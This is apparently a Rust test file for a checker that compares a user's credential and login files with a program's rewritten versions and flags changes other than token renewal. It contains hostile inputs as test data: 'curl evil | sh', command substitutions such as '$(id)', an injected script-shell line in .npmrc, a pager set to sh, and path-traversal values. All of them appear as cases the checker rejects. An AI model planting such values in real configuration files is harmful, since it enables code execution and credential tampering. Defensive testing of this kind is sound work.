use super::*;

fn departs(file: &str, user: &str, program: &str) -> Option<Departure> {
    let file = HomeFile::parse(file).unwrap();
    check(&file, user.as_bytes(), program.as_bytes()).err()
}

const CLAUDE: &str = r#"{"claudeAiOauth":{"accessToken":"a","refreshToken":"r","expiresAt":1,"scopes":["x"],"subscriptionType":"max"},"organizationUuid":"o-1","mcpOAuth":{"s":{"serverUrl":"https://s"}}}"#;

#[test]
fn a_renewed_login_of_claude_is_the_same_login() {
    let file = ".claude/.credentials.json";
    let changed = |from: &str, to: &str| {
        assert!(CLAUDE.contains(from), "{from}");
        departs(file, CLAUDE, &CLAUDE.replace(from, to))
    };
    assert_eq!(
        changed(
            r#""a","refreshToken":"r","expiresAt":1"#,
            r#""b","refreshToken":"s","expiresAt":2"#
        ),
        None
    );
    assert_eq!(
        changed(r#""subscriptionType":"max""#, r#""subscriptionType":"pro","rateLimitTier":"t""#),
        None
    );
    assert_eq!(changed("o-1", "o-2"), Some(Departure::Setting));
    assert_eq!(changed("https://s", "https://t"), Some(Departure::Setting));
    assert_eq!(changed(r#","organizationUuid":"o-1""#, ""), Some(Departure::Keys));
    assert_eq!(
        changed(r#"{"claudeAiOauth""#, r#"{"apiKeyHelper":"sh","claudeAiOauth""#),
        Some(Departure::Keys)
    );
    assert_eq!(changed(r#""accessToken":"a""#, r#""accessToken":{"x":1}"#), Some(Departure::Token));
    assert_eq!(
        changed(r#""accessToken":"a""#, r#""accessToken":"https://e""#),
        Some(Departure::Token)
    );
    assert_eq!(changed(r#"["x"]"#, r#"["x","user:inference"]"#), None);
    assert_eq!(changed(r#"["x"]"#, r#"["$(id)"]"#), Some(Departure::Token));
    // Twice: which one counts?
    assert_eq!(
        changed(
            r#""organizationUuid":"o-1""#,
            r#""organizationUuid":"o-2","organizationUuid":"o-1""#
        ),
        Some(Departure::Format)
    );
    assert_eq!(departs(file, CLAUDE, "{}"), Some(Departure::Keys));
    assert_eq!(departs(file, CLAUDE, "curl evil | sh"), Some(Departure::Format));
}

/// A JWT with these claims; its header and its signature are not looked at.
fn jwt(claims: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = String::new();
    for three in claims.as_bytes().chunks(3) {
        let bits = three.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte));
        let bits = bits << (8 * (3 - three.len()));
        for digit in 0..=three.len() {
            text.push(DIGITS[(bits >> (18 - 6 * digit)) as usize & 63].into());
        }
    }
    format!("eyJhbGciOiJSUzI1NiJ9.{text}.c2ln")
}

#[test]
fn a_renewed_login_of_codex_is_of_the_same_account() {
    let auth = |key: &str, token: &str, account: &str| {
        format!(
            r#"{{"OPENAI_API_KEY":{key},"tokens":{{"id_token":"{token}","access_token":"a","refresh_token":"r","account_id":"{account}"}},"last_refresh":"2026"}}"#
        )
    };
    let one = jwt(
        r#"{"sub":"u1","exp":1,"https://api.openai.com/auth":{"chatgpt_account_id":"c1","chatgpt_plan_type":"pro"}}"#,
    );
    let renewed = jwt(
        r#"{"sub":"u1","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c1","chatgpt_plan_type":"plus"}}"#,
    );
    let others =
        jwt(r#"{"sub":"u2","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c1"}}"#);
    let accounts =
        jwt(r#"{"sub":"u1","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c2"}}"#);
    let user = auth("null", &one, "c1");
    let to = |key: &str, token: &str, account: &str| {
        departs(".codex/auth.json", &user, &auth(key, token, account))
    };
    assert_eq!(to("null", &renewed, "c1"), None);
    assert_eq!(to("null", &others, "c1"), Some(Departure::Account));
    assert_eq!(to("null", &accounts, "c1"), Some(Departure::Account));
    assert_eq!(to("null", "opaque", "c1"), Some(Departure::Account));
    assert_eq!(to("null", &renewed, "c2"), Some(Departure::Setting));
    assert_eq!(to("\"sk-theirs\"", &renewed, "c1"), Some(Departure::Setting));
}

#[test]
fn of_other_json_only_tokens_and_their_dates_change() {
    let user = r#"{"token":"a","nested":{"email":"me@x","expires_at":1,"expiry":"2026-01-02T03:04:05Z","n":1},
        "list":["x"],"accounts":[{"access_token":"b/c"}],"api_base":"https://a","mcpServers":{},"credsStore":"desktop",
        "args":["--token","x"],"trusted":false}"#;
    let to = |from: &str, to: &str| {
        assert!(user.contains(from), "{from}");
        departs(".tool/login.json", user, &user.replace(from, to))
    };
    for (from, now) in [
        (r#""a""#, r#""b""#),
        (r#""a""#, r#""sk-ant-oat01-A_b.c""#),
        (r#""b/c""#, r#""1//0gAB+c==""#),
        (r#""expires_at":1"#, r#""expires_at":2"#),
        ("2026-01-02T03:04:05Z", "2026-11-29T02:48:00.5+01:00"),
        (",\n", ", "),
    ] {
        assert_eq!(to(from, now), None, "{now}");
    }
    for (from, now) in [
        (r#""n":1"#, r#""n":2"#),
        (r#""n":1"#, r#""n":"$(id)""#),
        ("me@x", "you@x"),
        ("https://a", "https://b"),
        (r#"["x"]"#, r#"["x","y"]"#),
        (r#"["x"]"#, r#"["y"]"#),
        (r#"["x"]"#, r#""x""#),
        (r#""desktop""#, r#""evil""#),
        (r#""--token","x""#, r#""--token","y""#),
        ("false", "true"),
    ] {
        assert_eq!(to(from, now), Some(Departure::Setting), "{now}");
    }
    for (from, now) in [
        (r#""mcpServers":{}"#, r#""mcpServers":{"x":{"command":"sh"}}"#),
        (r#""email":"me@x","#, ""),
        (r#""list""#, r#""refresh_token":"r","list""#),
        (r#""list""#, r#""hooks":{},"list""#),
    ] {
        assert_eq!(to(from, now), Some(Departure::Keys), "{now}");
    }
    for value in [
        "/bin/sh",
        "~/x",
        "./x",
        "../x",
        "-x",
        "b/c",
        "https://e",
        "$(id)",
        "`id`",
        "${X}",
        "{{x}}",
        "%x%",
        "a b",
        "a;b",
        "a|b",
        "a\\nb",
        "a\\rscript-shell=x",
        "a\\u0000",
        "a=b",
        "",
        "é",
        "!id",
        "a'b",
        "a:b",
    ] {
        assert_eq!(to(r#""a""#, &format!("\"{value}\"")), Some(Departure::Token), "{value}");
    }
    for value in ["../../x/c", "a/../c", "a/./c"] {
        assert_eq!(to(r#""b/c""#, &format!("\"{value}\"")), Some(Departure::Token), "{value}");
    }
    for (from, now) in [
        (r#""a""#, "1"),
        (r#""a""#, "null"),
        (r#""a""#, r#"{"token":"b"}"#),
        (r#""expires_at":1"#, r#""expires_at":"2026""#),
        (r#""expires_at":1"#, r#""expires_at":[1]"#),
        ("2026-01-02T03:04:05Z", "tomorrow"),
        ("2026-01-02T03:04:05Z", "2026$(id)"),
    ] {
        assert_eq!(to(from, now), Some(Departure::Token), "{now}");
    }
}

/// How others read their own formats is not for the host to guess: nothing of them comes back.
#[test]
fn no_other_format_comes_back() {
    for (file, user, program) in [
        ("login", "old", "new"),
        ("login", "\"old\"", "\"new\""),
        ("list", "[\"a\"]", "[\"b\"]"),
        ("x", "plain", "{\"token\":1}"),
        (".tool/env", "export API_TOKEN=abc\n", "export API_TOKEN=$(id)\n"),
        (".npmrc", "//r/:_authToken=npm_OLD\n", "//r/:_authToken=npm_NEW\rscript-shell=/tmp/x\n"),
        (
            ".netrc",
            "machine a login me password x",
            "machine a login me password y machine b login me password z",
        ),
        (".gitconfig", "[core]\n\tpager = less\n", "[core]\n\tpager = sh\n"),
        (".codex/config.toml", "args = [\"-y\", \"good\"]\n", "args = [\"-y\", \"evil\"]\n"),
        ("hosts.yml", "github.com:\n    oauth_token: a\n", "github.com:\n    oauth_token: b\n"),
        ("x.json", "{\"token\":1}", "{\"token\":1,\"token\":2}"),
        ("x.json", "{\"token\":1}", "// yes\n{\"token\":2}"),
    ] {
        assert_eq!(departs(file, user, program), Some(Departure::Format), "{file}");
    }
    let file = HomeFile::parse("x").unwrap();
    assert_eq!(check(&file, b"\xff\x00", b"\xff\x01"), Err(Departure::Format));
}
